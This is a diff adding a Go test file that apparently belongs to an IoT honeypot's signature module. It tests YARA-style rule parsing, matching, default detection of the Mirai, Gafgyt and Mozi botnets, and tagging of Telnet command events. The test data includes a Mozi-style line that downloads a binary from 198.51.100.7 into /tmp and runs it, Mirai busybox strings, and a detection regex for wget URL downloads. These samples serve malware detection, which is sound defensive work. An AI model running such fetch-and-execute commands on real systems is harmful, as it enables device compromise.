@@ -0,0 +1,144 @@
+package signatures
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/riotpot/pkg/events"
+	"github.com/riotpot/pkg/signatures"
+	"github.com/stretchr/testify/assert"
+)
+
+const rules = `
+// Rule with every kind of string
+rule Test : test {
+	meta:
+		family = "Test"
+		score = 10
+	strings:
+		$text = "Hello" nocase
+		$wide = "wide" wide
+		$hex = { 7F 45 4C 46 ?? [0-2] 0? }
+		$regex = /wget\s+http:\/\/\S+/i
+	condition:
+		($text and not $wide) or ($hex and $regex) or all of ($w*)
+}
+
+/* Rule without family */
+rule Quantifier {
+	strings:
+		$a = "a1"
+		$b = "b2"
+		$c = "c3"
+	condition:
+		2 of them
+}
+`
+
+func TestParse(t *testing.T) {
+	parsed, err := signatures.Parse(rules)
+	assert.NoError(t, err)
+	assert.Len(t, parsed, 2)
+
+	assert.Equal(t, "Test", parsed[0].Name)
+	assert.Equal(t, []string{"test"}, parsed[0].Tags)
+	assert.Equal(t, "Test", parsed[0].GetFamily())
+	assert.Equal(t, "10", parsed[0].Meta["score"])
+	assert.Equal(t, []string{"$text", "$wide", "$hex", "$regex"}, parsed[0].GetStrings())
+	assert.Equal(t, "", parsed[1].GetFamily())
+
+	for _, invalid := range []string{
+		`rule A { condition: $a }`,
+		`rule A { strings: $a = "a" condition: 2 of them }`,
+		`rule A { strings: $a = { 4D [0-4] } condition: $a }`,
+		`rule A { strings: $a = /(/ condition: $a }`,
+		`rule A { strings: $a = "a" $a = "b" condition: $a }`,
+		`rule A { condition: true } rule A { condition: true }`,
+		`rule A { strings: $a = "a" condition: $a`,
+		`rule A { strings: $a = "unterminated condition: $a }`,
+	} {
+		_, err := signatures.Parse(invalid)
+		assert.Error(t, err, invalid)
+	}
+}
+
+func TestMatch(t *testing.T) {
+	parsed, err := signatures.Parse(rules)
+	assert.NoError(t, err)
+	rule, quantifier := parsed[0], parsed[1]
+
+	strs, ok := rule.Match([]byte("say HELLO"))
+	assert.True(t, ok)
+	assert.Equal(t, []string{"$text"}, strs)
+
+	// The wide string is encoded as UTF-16LE
+	_, ok = rule.Match([]byte("hello w\x00i\x00d\x00e\x00"))
+	assert.True(t, ok)
+	_, ok = rule.Match([]byte("hello wide"))
+	assert.True(t, ok)
+
+	// Hex string with a wildcard, a jump and a nibble wildcard, and the regular expression
+	strs, ok = rule.Match([]byte("\x7fELF\x02\xff\x05 WGET http://198.51.100.7/bot"))
+	assert.True(t, ok)
+	assert.Equal(t, []string{"$hex", "$regex"}, strs)
+	_, ok = rule.Match([]byte("\x7fELF\x02\xff\xff\xff\x05 wget http://198.51.100.7/bot"))
+	assert.False(t, ok)
+
+	_, ok = quantifier.Match([]byte("a1 c3"))
+	assert.True(t, ok)
+	_, ok = quantifier.Match([]byte("a1 b3"))
+	assert.False(t, ok)
+}
+
+func TestDefaults(t *testing.T) {
+	rs := signatures.NewRuleSet()
+
+	for family, data := range map[string]string{
+		"Mirai":  "enable; system; shell; sh; /bin/busybox ECCHI",
+		"Gafgyt": "PONG!\x00GETLOCALIP\x00KILLATTK\x00",
+		"Mozi":   "cd /tmp; wget http://198.51.100.7:8080/Mozi.m -O /tmp/netgear; sh /tmp/netgear",
+	} {
+		matches := rs.Scan([]byte(data))
+		if assert.Len(t, matches, 1, family) {
+			assert.Equal(t, family, matches[0].Family)
+		}
+	}
+
+	assert.Empty(t, rs.Scan([]byte("cat /proc/cpuinfo; uname -a; /bin/busybox ls")))
+}
+
+func TestEnrich(t *testing.T) {
+	rs := signatures.NewRuleSet()
+
+	ev := events.NewEvent(events.CommandEvent, "Telnet", "198.51.100.7:4000")
+	ev.With("command", "/bin/busybox MIRAI")
+	rs.Enrich(ev)
+
+	assert.Equal(t, []string{"Mirai"}, ev.Fields[signatures.RulesField])
+	assert.Equal(t, []string{"Mirai"}, ev.Fields[signatures.FamiliesField])
+	assert.Contains(t, ev.Tags, "mirai")
+
+	// Only the commands are matched in the events
+	ev = events.NewEvent(events.AuthEvent, "Telnet", "198.51.100.7:4000")
+	ev.With("user", "/bin/busybox MIRAI")
+	rs.Enrich(ev)
+	assert.Empty(t, ev.Tags)
+}
+
+func TestLoad(t *testing.T) {
+	dir := t.TempDir()
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, "a.yar"), []byte(rules), 0o600))
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, "b.yara"), []byte(`rule Other { condition: false }`), 0o600))
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, "c.txt"), []byte(`invalid`), 0o600))
+
+	rs := signatures.NewRuleSet()
+	assert.NoError(t, rs.Load(dir))
+	assert.Len(t, rs.GetRules(), 3)
+
+	assert.NoError(t, rs.Load(filepath.Join(dir, "b.yara")))
+	assert.Len(t, rs.GetRules(), 1)
+
+	assert.Error(t, rs.Load(filepath.Join(dir, "c.txt")))
+	assert.Len(t, rs.GetRules(), 1)
+}